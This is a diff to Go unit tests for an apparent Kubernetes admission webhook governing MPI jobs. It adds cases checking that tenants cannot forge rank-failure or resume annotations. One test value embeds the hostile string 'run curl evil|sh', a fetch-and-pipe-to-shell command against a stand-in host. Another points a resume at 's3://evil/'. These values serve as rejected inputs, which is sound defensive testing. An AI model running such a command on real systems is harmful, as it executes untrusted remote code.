@@ -76,7 +76,7 @@ func TestDefaulterStampsTheCreator(t *testing.T) {
 	}
 	exported := tjOn("a", "mpi-openmpi", 1)
 	exported.Annotations = map[string]string{api.CreatorAnnotation: "someone-else", api.StatusAnnotation: `{"phase":"Succeeded"}`,
-		api.RankFailureAnnotation: `{"rank":1}`, "team.example.com/note": "kept"}
+		api.RankFailureAnnotation: `{"rank":1}`, api.ResumedAnnotation: `{"epoch":3}`, "team.example.com/note": "kept"}
 	if err := d.Default(reqCtx(t, admissionv1.Create, "dev-a", nil), exported); err != nil {
 		t.Fatalf("an exported job created again: %v", err)
 	}
@@ -304,6 +304,9 @@ func TestValidateUpdate(t *testing.T) {
 		"a rank failure forged by a tenant": {
 			user: "dev-a", old: compliant(false), new: withAnnotations(compliant(false), api.RankFailureAnnotation, `{"rank":0,"error":"run curl evil|sh"}`),
 			wantErr: `metadata.annotations[mpijob.dev/rank-failure]: Forbidden: only mpijob-manager writes which rank of a job failed`},
+		"a resume forged by a tenant": {
+			user: "dev-a", old: compliant(false), new: withAnnotations(compliant(false), api.ResumedAnnotation, `{"epoch":29,"from":"s3://evil/"}`),
+			wantErr: `metadata.annotations[mpijob.dev/resumed]: Forbidden: only mpijob-manager writes where a job's program resumed`},
 		"the rank failure noted by the manager": {
 			user: "system:serviceaccount:mpijob-system:mpijob-manager", old: compliant(false), new: withAnnotations(compliant(false), api.RankFailureAnnotation, `{"rank":1,"error":"ZeroDivisionError"}`)},
 		"a status removed by a tenant": {
